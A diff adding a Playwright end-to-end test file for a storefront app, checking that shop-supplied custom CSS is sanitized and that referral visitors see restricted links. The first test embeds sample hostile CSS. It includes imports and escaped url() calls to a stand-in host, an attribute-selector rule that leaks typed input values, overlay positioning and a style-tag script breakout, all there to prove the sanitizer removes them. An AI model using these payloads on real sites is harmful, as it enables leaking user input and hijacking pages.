@@ -1,0 +1,101 @@
+import type { Page } from 'playwright';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { type Browser, openBrowser } from './browser.ts';
+import { chooseShop } from './shopper.ts';
+import { openStorefront, type Storefront } from './storefront.ts';
+
+let browser: Browser;
+let shop: Storefront;
+
+beforeAll(async () => {
+  [browser, shop] = await Promise.all([openBrowser(), openStorefront()]);
+});
+afterAll(async () => {
+  await browser.close();
+  await shop.close();
+});
+
+const configure = (body: object) =>
+  shop.call('/sandbox/config', {
+    method: 'PATCH',
+    body,
+    headers: { 'x-operator-key': shop.keys.operator },
+  });
+
+/** The rules that a page was given beside its own files, one line each. */
+const adopted = (page: Page) =>
+  page.evaluate(() =>
+    document.adoptedStyleSheets.flatMap(({ cssRules }) => [...cssRules].map(({ cssText }) => cssText)),
+  );
+
+/** Style rules of somebody who means harm, between two that only say how things look. */
+const HARMFUL = `
+@import url("https://elsewhere.test/more.css");
+@font-face { font-family: x; src: url(https://elsewhere.test/x.woff2) }
+:root { --content: 1080px; --leak: \\75rl(https://elsewhere.test/a); }
+body { background: url(https://elsewhere.test/b), red; letter-spacing: 0.5px }
+main { background-image: var(--leak, \\75rl("https://elsewhere.test/c")); position: fixed; z-index: 99; color: green }
+h1 { background: image-set("https://elsewhere.test/d" 1x) }
+@media (width > 1px) { header { position: sticky; opacity: 0.9; cursor: url(https://elsewhere.test/e), auto } }
+</style><script>window.harmed = true</script>
+input[value^="a"] { background: url(https://elsewhere.test/f) }
+h1 { letter-spacing: 1px }
+`;
+
+test('a demo station is dressed by its own rules, none of which fetch anything or lie over the page', async () => {
+  await configure({ features: { demo_station: true } });
+  const visitor = await browser.visit(shop.address);
+  const { page, context, troubles } = visitor;
+  const asked: string[] = [];
+  context.on('request', (request) => void asked.push(request.url()));
+  let answer = (): void => undefined;
+  const asking = new Promise<void>((resolve) => {
+    answer = resolve;
+  });
+  await page.route('**/application/fetch_config', async (route) => {
+    await asking;
+    await route.fulfill({ json: { status: 'ok', theme: { primary: '#5f3dc4' }, custom_css: HARMFUL } });
+  });
+  await page.goto('/');
+  await page.getByRole('progressbar').waitFor();
+  answer();
+  await page.getByRole('progressbar').waitFor({ state: 'detached' });
+  await page.getByRole('dialog', { name: 'Where do you want to shop?' }).waitFor();
+
+  const rules = (await adopted(page)).join('\n');
+  expect(rules).toContain('--content: 1080px');
+  expect(rules).toContain('letter-spacing: 1px');
+  expect(rules).toContain('opacity: 0.9');
+  expect(rules).not.toMatch(/elsewhere|url|@import|font-face|fixed|sticky|z-index|\\/);
+  expect(asked.filter((url) => !url.startsWith(shop.address) && !url.startsWith('data:'))).toEqual([]);
+  expect(await page.evaluate(() => 'harmed' in globalThis)).toBe(false);
+
+  const drawn = await page.evaluate(() => ({
+    primary: getComputedStyle(document.documentElement).getPropertyValue('--primary'),
+    icon: document.querySelector<HTMLLinkElement>('link[rel="icon"]')?.href,
+    logo: getComputedStyle(document.querySelector('header a span')!, '::before').content,
+  }));
+  expect(drawn.primary).toBe('#5f3dc4');
+  for (const picture of [drawn.icon, drawn.logo]) expect(picture).toMatch(/data:image\/svg.*5f3dc4/);
+  expect(troubles).toEqual([]);
+  await configure({ features: { demo_station: false } });
+});
+
+test('who comes from where data is free stays in the window of shops and is offered no other site', async () => {
+  await configure({ meta: { facebook_url: 'https://facebook.test/shop', website_url: 'https://site.test' } });
+  const { page } = await browser.visit(shop.address);
+  const looked = page.waitForRequest(/distance_from/);
+  await page.goto('/?referer=moya-discover');
+  expect(new URL((await looked).url()).searchParams.get('distance')).toBe('15');
+  const shops = page.getByRole('dialog', { name: 'Where do you want to shop?' });
+  await shops.waitFor();
+  await page.keyboard.press('Escape');
+  expect(await shops.getByRole('button', { name: 'Close' }).count()).toBe(0);
+  await chooseShop(page);
+  await page.getByRole('button', { name: 'Menu' }).click();
+  const menu = page.getByRole('dialog');
+  await menu.getByRole('link', { name: 'Website' }).waitFor();
+  expect(await menu.getByRole('link', { name: 'Facebook' }).count()).toBe(0);
+  const help = await menu.getByRole('link', { name: 'Get help' }).getAttribute('href');
+  expect(new URL(help!).searchParams.get('text')).toBe('Hello Spaza, please help me with my shopping.');
+});
